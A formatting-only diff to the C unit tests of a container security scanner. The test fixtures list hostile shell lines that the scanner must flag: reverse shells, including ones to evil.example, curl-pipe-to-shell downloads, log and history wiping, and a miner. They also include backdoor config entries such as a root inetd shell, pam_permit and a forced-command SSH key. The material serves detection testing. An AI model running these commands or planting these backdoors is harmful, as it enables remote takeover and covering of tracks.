@@ -67,7 +67,8 @@ static struct scan_engine *engine(unsigned checks)
 }
 
 /* Scan the directory TOP as a container's root; *ret_t is the target (the caller frees it). */
-static struct scan_result run_rootfs(struct scan_engine *e, const char *top, struct scan_target **ret_t)
+static struct scan_result run_rootfs(struct scan_engine *e, const char *top,
+                                     struct scan_target **ret_t)
 {
 	struct cirt_err err = {0};
 	assert_int_equal(scan_target_rootfs(top, ret_t, &err), 0);
@@ -82,7 +83,8 @@ static char *summary(const struct scan_result *r)
 	struct buf b = {0};
 	for (size_t i = 0; i < r->n; i++)
 		buf_printf(&b, "%s %s %s\n", r->f[i].rule, r->f[i].path ? r->f[i].path : "-",
-			   scan_origin_name(r->f[i].origin) ? scan_origin_name(r->f[i].origin) : "-");
+		           scan_origin_name(r->f[i].origin) ? scan_origin_name(r->f[i].origin)
+		                                            : "-");
 	buf_cstr(&b);
 	return b.data ? b.data : xstrdup("");
 }
@@ -90,7 +92,8 @@ static char *summary(const struct scan_result *r)
 static bool has(const struct scan_result *r, const char *rule, const char *path)
 {
 	for (size_t i = 0; i < r->n; i++)
-		if (streq(r->f[i].rule, rule) && (!path || (r->f[i].path && streq(r->f[i].path, path))))
+		if (streq(r->f[i].rule, rule) &&
+		    (!path || (r->f[i].path && streq(r->f[i].path, path))))
 			return true;
 	return false;
 }
@@ -103,36 +106,39 @@ static void test_shellpat(void **state)
 		const char *line;
 		const char *slug; /* NULL: no match */
 	} cases[] = {
-		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell"},
-		{"nc 1.2.3.4 4444 -e /bin/sh", "reverse_shell"},
-		{"/usr/bin/ncat evil.example 443 --sh-exec sh", "reverse_shell"},
-		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", "reverse_shell"},
-		{"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
-		 "reverse_shell"},
-		{"php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3\");'", "reverse_shell"},
-		{"socat tcp:h:1 exec:/bin/sh,pty", "reverse_shell"},
-		{"curl -fsSL http://x.example/i.sh | bash", "download_exec"},
-		{"wget -q -O- http://x.example/i.sh | sudo /bin/sh", "download_exec"},
-		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "download_exec"},
-		{"wget http://x.example/m -O /tmp/m && chmod +x /tmp/m", "download_exec"},
-		{"echo aGVsbG8= | base64 -d | sh", "base64_exec"},
-		{"export LD_PRELOAD=/tmp/x.so", "ld_preload"},
-		{"PROMPT_COMMAND='unset HISTFILE'", "history_wipe"}, /* the stronger class wins */
-		{"export PROMPT_COMMAND=\"echo hi\"", "prompt_command"},
-		{"history -c", "history_wipe"},
-		{"unset HISTFILE", "history_wipe"},
-		{"rm -rf /var/log/*", "log_wipe"},
-		{"echo > /var/log/wtmp", "log_wipe"},
-		{"./xmrig -o stratum+tcp://pool:3333", "miner"},
-		{"wget http://203.0.113.9/x", "raw_ip_download"},
-		/* ordinary lines */
-		{"ls -la /tmp", NULL},
-		{"curl https://example.com/api/status", NULL},
-		{"# bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", NULL},
-		{"true || false", NULL},
-		{"cat /var/log/syslog | grep error", NULL},
-		{"ncdu /var", NULL},
-		{"", NULL},
+	    {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell"},
+	    {"nc 1.2.3.4 4444 -e /bin/sh", "reverse_shell"},
+	    {"/usr/bin/ncat evil.example 443 --sh-exec sh", "reverse_shell"},
+	    {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
+	     "reverse_shell"},
+	    {"python3 -c 'import "
+	     "socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn("
+	     "\"/bin/sh\")'",
+	     "reverse_shell"},
+	    {"php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3\");'", "reverse_shell"},
+	    {"socat tcp:h:1 exec:/bin/sh,pty", "reverse_shell"},
+	    {"curl -fsSL http://x.example/i.sh | bash", "download_exec"},
+	    {"wget -q -O- http://x.example/i.sh | sudo /bin/sh", "download_exec"},
+	    {"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "download_exec"},
+	    {"wget http://x.example/m -O /tmp/m && chmod +x /tmp/m", "download_exec"},
+	    {"echo aGVsbG8= | base64 -d | sh", "base64_exec"},
+	    {"export LD_PRELOAD=/tmp/x.so", "ld_preload"},
+	    {"PROMPT_COMMAND='unset HISTFILE'", "history_wipe"}, /* the stronger class wins */
+	    {"export PROMPT_COMMAND=\"echo hi\"", "prompt_command"},
+	    {"history -c", "history_wipe"},
+	    {"unset HISTFILE", "history_wipe"},
+	    {"rm -rf /var/log/*", "log_wipe"},
+	    {"echo > /var/log/wtmp", "log_wipe"},
+	    {"./xmrig -o stratum+tcp://pool:3333", "miner"},
+	    {"wget http://203.0.113.9/x", "raw_ip_download"},
+	    /* ordinary lines */
+	    {"ls -la /tmp", NULL},
+	    {"curl https://example.com/api/status", NULL},
+	    {"# bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", NULL},
+	    {"true || false", NULL},
+	    {"cat /var/log/syslog | grep error", NULL},
+	    {"ncdu /var", NULL},
+	    {"", NULL},
 	};
 	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
 		struct shellpat_hit h;
@@ -197,7 +203,7 @@ static void test_overlay_layers(void **state)
 	put(lower, "/www/c.php", shell);      /* untouched: in the image */
 	put(lower, "/www/gone/e.php", shell); /* its directory replaced by a file */
 	put(lower, "/etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n");
-	put(upper, "/www/d.php", shell);      /* added since the image */
+	put(upper, "/www/d.php", shell); /* added since the image */
 	put(upper, "/www/dir/new.txt", "hello\n");
 	put(upper, "/www/gone", "now a file\n");
 	put(upper, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
@@ -275,14 +281,20 @@ static void test_escape(void **state)
 {
 	struct scan_engine *e = engine(CHK_ESCAPE | CHK_SECRETS);
 	struct scan_result r = run_inspect(
-		e, "{\"HostConfig\": {\"Privileged\": true, \"PidMode\": \"host\", \"CapAdd\": [\"SYS_ADMIN\"],"
-		   " \"SecurityOpt\": [\"seccomp=unconfined\"], \"Devices\": [{\"PathOnHost\": \"/dev/sda\"}]},"
-		   " \"Mounts\": [{\"Type\": \"bind\", \"Source\": \"/run/containerd/containerd.sock\","
-		   " \"Destination\": \"/run/containerd/containerd.sock\", \"RW\": true},"
-		   " {\"Type\": \"bind\", \"Source\": \"/\", \"Destination\": \"/host\", \"RW\": false},"
-		   " {\"Type\": \"bind\", \"Source\": \"/etc/localtime\", \"Destination\": \"/etc/localtime\", \"RW\": false},"
-		   " {\"Type\": \"volume\", \"Source\": \"/var/lib/docker/volumes/x/_data\", \"Destination\": \"/data\", \"RW\": true}],"
-		   " \"Config\": {\"Env\": [\"PATH=/bin\", \"DB_PASSWORD=hunter2hunter2\", \"API_TOKEN_FILE=/run/secrets/t\"]}}");
+	    e,
+	    "{\"HostConfig\": {\"Privileged\": true, \"PidMode\": \"host\", \"CapAdd\": "
+	    "[\"SYS_ADMIN\"],"
+	    " \"SecurityOpt\": [\"seccomp=unconfined\"], \"Devices\": [{\"PathOnHost\": "
+	    "\"/dev/sda\"}]},"
+	    " \"Mounts\": [{\"Type\": \"bind\", \"Source\": \"/run/containerd/containerd.sock\","
+	    " \"Destination\": \"/run/containerd/containerd.sock\", \"RW\": true},"
+	    " {\"Type\": \"bind\", \"Source\": \"/\", \"Destination\": \"/host\", \"RW\": false},"
+	    " {\"Type\": \"bind\", \"Source\": \"/etc/localtime\", \"Destination\": "
+	    "\"/etc/localtime\", \"RW\": false},"
+	    " {\"Type\": \"volume\", \"Source\": \"/var/lib/docker/volumes/x/_data\", "
+	    "\"Destination\": \"/data\", \"RW\": true}],"
+	    " \"Config\": {\"Env\": [\"PATH=/bin\", \"DB_PASSWORD=hunter2hunter2\", "
+	    "\"API_TOKEN_FILE=/run/secrets/t\"]}}");
 	char *s = summary(&r);
 	assert_true(has(&r, "escape.privileged", NULL));
 	assert_true(has(&r, "escape.runtime_socket", NULL));
@@ -305,11 +317,12 @@ static void test_escape(void **state)
 		}
 	}
 	assert_int_equal(mounts, 1); /* not /etc/localtime, not the volume */
-	assert_int_equal(envs, 1);  /* a *_FILE reference is not a secret */
+	assert_int_equal(envs, 1);   /* a *_FILE reference is not a secret */
 	scan_result_clear(&r);
 	free(s);
 
-	r = run_inspect(e, "{\"HostConfig\": {\"CapAdd\": [\"CAP_SYS_MODULE\", \"bpf\", \"NET_RAW\"]}}");
+	r = run_inspect(
+	    e, "{\"HostConfig\": {\"CapAdd\": [\"CAP_SYS_MODULE\", \"bpf\", \"NET_RAW\"]}}");
 	assert_true(has(&r, "escape.cap_sys_module", NULL));
 	assert_true(has(&r, "escape.cap_bpf", NULL));
 	assert_int_equal(r.n, 2);
@@ -318,7 +331,8 @@ static void test_escape(void **state)
 	assert_true(has(&r, "escape.cap_all", NULL));
 	scan_result_clear(&r);
 	/* a default container: nothing */
-	r = run_inspect(e, "{\"HostConfig\": {\"NetworkMode\": \"bridge\", \"CapAdd\": null}, \"Mounts\": []}");
+	r = run_inspect(
+	    e, "{\"HostConfig\": {\"NetworkMode\": \"bridge\", \"CapAdd\": null}, \"Mounts\": []}");
 	assert_int_equal(r.n, 0);
 	scan_result_clear(&r);
 	scan_engine_free(e);
@@ -339,13 +353,15 @@ static char *hash(const char *prefix, const char *pw)
 static void test_weakpass(void **state)
 {
 	char *top = tmpdir();
-	char *y = hash("$y$", "password"), *b = hash("$2b$", "letmein"), *s5 = hash("$5$", "Xq9-not-common-7Lp");
+	char *y = hash("$y$", "password"), *b = hash("$2b$", "letmein"),
+	     *s5 = hash("$5$", "Xq9-not-common-7Lp");
 	char *m = hash("$1$", "web123");
 	char shadow[2048];
 	snprintf(shadow, sizeof(shadow),
-		 "root:%s:19700:0:99999:7:::\nalice:%s:19700::::::\nbob:%s:19700::::::\nweb:%s:19700::::::\n"
-		 "guest::19700::::::\nlocked:!%s:19700::::::\n",
-		 y, b, s5, m, y);
+	         "root:%s:19700:0:99999:7:::\nalice:%s:19700::::::\nbob:%s:19700::::::\nweb:%s:"
+	         "19700::::::\n"
+	         "guest::19700::::::\nlocked:!%s:19700::::::\n",
+	         y, b, s5, m, y);
 	put(top, "/etc/shadow", shadow);
 	put(top, "/etc/redis.conf", "bind 0.0.0.0\nprotected-mode no\n");
 	struct scan_engine *e = engine(CHK_WEAKPASS);
@@ -395,9 +411,13 @@ static void test_backdoor_lines(void **state)
 	put(top, "/etc/ld.so.preload", "# preload\n\n   \n\t/tmp/.x/libhide.so\n");
 	put(top, "/root/.ssh/authorized_keys",
 	    "# keys\n\n  command=\"/bin/sh\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0 evil@c2\n");
-	put(top, "/etc/pam.d/sshd", "# auth sufficient pam_permit.so\n\n  auth sufficient pam_permit.so\n");
-	put(top, "/etc/inetd.conf", "#9999 stream tcp nowait root /bin/sh sh -i\n\n9999 stream tcp nowait root /bin/sh sh -i\n");
-	put(top, "/etc/redis.conf", "# requirepass foobared\n\nbind 0.0.0.0\n  requirepass password\n");
+	put(top, "/etc/pam.d/sshd",
+	    "# auth sufficient pam_permit.so\n\n  auth sufficient pam_permit.so\n");
+	put(top, "/etc/inetd.conf",
+	    "#9999 stream tcp nowait root /bin/sh sh -i\n\n9999 stream tcp nowait root /bin/sh sh "
+	    "-i\n");
+	put(top, "/etc/redis.conf",
+	    "# requirepass foobared\n\nbind 0.0.0.0\n  requirepass password\n");
 	put(top, "/etc/crontab", "# only comments\n\n#* * * * * root /tmp/x\n");
 	struct scan_engine *e = engine(CHK_BACKDOOR | CHK_WEAKPASS);
 	struct scan_target *t = NULL;
@@ -405,8 +425,10 @@ static void test_backdoor_lines(void **state)
 	char *s = summary(&r);
 	print_message("%s", s);
 	assert_int_equal(line_of(&r, "backdoor.ld_so_preload", "/etc/ld.so.preload"), 4);
-	assert_int_equal(line_of(&r, "backdoor.ssh.forced_command", "/root/.ssh/authorized_keys"), 3);
-	assert_int_equal(line_of(&r, "backdoor.ssh.authorized_key", "/root/.ssh/authorized_keys"), 3);
+	assert_int_equal(line_of(&r, "backdoor.ssh.forced_command", "/root/.ssh/authorized_keys"),
+	                 3);
+	assert_int_equal(line_of(&r, "backdoor.ssh.authorized_key", "/root/.ssh/authorized_keys"),
+	                 3);
 	assert_int_equal(line_of(&r, "backdoor.pam.permit", "/etc/pam.d/sshd"), 3);
 	assert_int_equal(line_of(&r, "backdoor.inetd.shell", "/etc/inetd.conf"), 3);
 	assert_int_equal(line_of(&r, "weakpass.redis", "/etc/redis.conf"), 4);
@@ -442,7 +464,8 @@ static void test_sarif(void **state)
 	assert_string_equal(json_string_value(json_object_get(doc, "version")), "2.1.0");
 	json_t *run = json_array_get(json_object_get(doc, "runs"), 0);
 	json_t *results = json_object_get(run, "results");
-	json_t *rules = json_object_get(json_object_get(json_object_get(run, "tool"), "driver"), "rules");
+	json_t *rules =
+	    json_object_get(json_object_get(json_object_get(run, "tool"), "driver"), "rules");
 	assert_int_equal(json_array_size(results), 2);
 	assert_int_equal(json_array_size(rules), 2);
 	size_t i;
@@ -450,18 +473,26 @@ static void test_sarif(void **state)
 	bool seen = false;
 	json_array_foreach(results, i, res)
 	{
-		json_t *rule = json_array_get(rules, (size_t)json_integer_value(json_object_get(res, "ruleIndex")));
+		json_t *rule = json_array_get(
+		    rules, (size_t)json_integer_value(json_object_get(res, "ruleIndex")));
 		assert_string_equal(json_string_value(json_object_get(rule, "id")),
-				    json_string_value(json_object_get(res, "ruleId")));
-		json_t *pl = json_object_get(json_array_get(json_object_get(res, "locations"), 0), "physicalLocation");
-		const char *uri = json_string_value(json_object_get(json_object_get(pl, "artifactLocation"), "uri"));
-		if (streq(json_string_value(json_object_get(res, "ruleId")), "webshell.php_eval_request")) {
+		                    json_string_value(json_object_get(res, "ruleId")));
+		json_t *pl = json_object_get(json_array_get(json_object_get(res, "locations"), 0),
+		                             "physicalLocation");
+		const char *uri = json_string_value(
+		    json_object_get(json_object_get(pl, "artifactLocation"), "uri"));
+		if (streq(json_string_value(json_object_get(res, "ruleId")),
+		          "webshell.php_eval_request")) {
 			assert_string_equal(uri, "/www/a%20b.php");
-			assert_int_equal(json_integer_value(json_object_get(json_object_get(pl, "region"), "startLine")), 2);
-			assert_string_equal(json_string_value(json_object_get(res, "level")), "error");
+			assert_int_equal(json_integer_value(json_object_get(
+			                     json_object_get(pl, "region"), "startLine")),
+			                 2);
+			assert_string_equal(json_string_value(json_object_get(res, "level")),
+			                    "error");
 			seen = true;
 		} else {
-			assert_string_equal(json_string_value(json_object_get(res, "level")), "warning");
+			assert_string_equal(json_string_value(json_object_get(res, "level")),
+			                    "warning");
 		}
 	}
 	assert_true(seen);
@@ -475,9 +506,10 @@ static void test_sarif(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_shellpat),  cmocka_unit_test(test_text_helpers), cmocka_unit_test(test_overlay_layers),
-		cmocka_unit_test(test_escape),	  cmocka_unit_test(test_weakpass),     cmocka_unit_test(test_sarif),
-		cmocka_unit_test(test_backdoor_lines),
+	    cmocka_unit_test(test_shellpat),       cmocka_unit_test(test_text_helpers),
+	    cmocka_unit_test(test_overlay_layers), cmocka_unit_test(test_escape),
+	    cmocka_unit_test(test_weakpass),       cmocka_unit_test(test_sarif),
+	    cmocka_unit_test(test_backdoor_lines),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
